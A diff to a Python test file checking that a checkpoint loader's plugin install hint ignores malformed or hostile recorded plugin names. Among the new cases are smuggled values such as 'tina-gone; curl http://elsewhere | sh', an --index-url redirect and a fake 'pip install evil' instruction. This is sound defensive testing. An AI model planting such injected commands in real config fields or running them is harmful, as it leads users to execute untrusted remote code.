@@ -44,7 +44,9 @@ def test_a_classifier_says_which_plugin_it_needs(flat: str, tmp_path: Path) -> N
     GeneratedClassifier.from_pretrained(tmp_path / "c")
     assert json.loads((tmp_path / "c" / "config.json").read_text())["plugins"] == ["tina-flat"]
     del registries().architectures._entries[flat]
-    sentence = r"Unknown architecture .* It was made with the plugin tina-flat; install it\.$"
+    sentence = (
+        r"Unknown architecture .* It says that it was made with the plugin tina-flat; install it if you trust it\.$"
+    )
     with pytest.raises(CheckpointError, match=sentence):
         GeneratedClassifier.from_pretrained(tmp_path / "c")
 
@@ -52,13 +54,34 @@ def test_a_classifier_says_which_plugin_it_needs(flat: str, tmp_path: Path) -> N
 @pytest.mark.parametrize(
     ("recorded", "hint"),
     [
-        (["tina-gone"], " It was made with the plugin tina-gone; install it."),
-        (["my_network.py"], " It was made with the file my_network.py; give it with --plugin."),
+        (["tina-gone"], " It says that it was made with the plugin tina-gone; install it if you trust it."),
+        (["my_network.py"], " It says that it was made with the file my_network.py; give it with --plugin."),
         (["tina-framework"], ""),
         ("tina-gone", ""),
         ([3], ""),
+        (3, ""),
+        ({"tina-gone": 1}, ""),
+        ([["tina-gone"], {"a": 1}, None], ""),
+        (["tina-gone --index-url http://elsewhere"], ""),
+        (["tina-gone; curl http://elsewhere | sh"], ""),
+        (["tina-gone'. Run: pip install evil"], ""),
+        (["tina-gone\n"], ""),
+        (["\x1b[2Jtina-gone"], ""),
+        (["git+https://elsewhere/x"], ""),
+        (["/tmp/evil.py"], ""),
+        (["a" * 1000], ""),
+        (
+            ["tina-gone", "tina-gone"],
+            " It says that it was made with the plugin tina-gone; install it if you trust it.",
+        ),
     ],
 )
 def test_the_hint(recorded: object, hint: str) -> None:
     assert plugin_hint({"plugins": recorded}) == hint
     assert plugin_hint({}) == ""
+
+
+def test_a_long_list_is_cut() -> None:
+    hint = plugin_hint({"plugins": [f"tina-{number}" for number in range(1000)]})
+    assert hint.endswith(" It names 995 more.")
+    assert len(hint) < 500
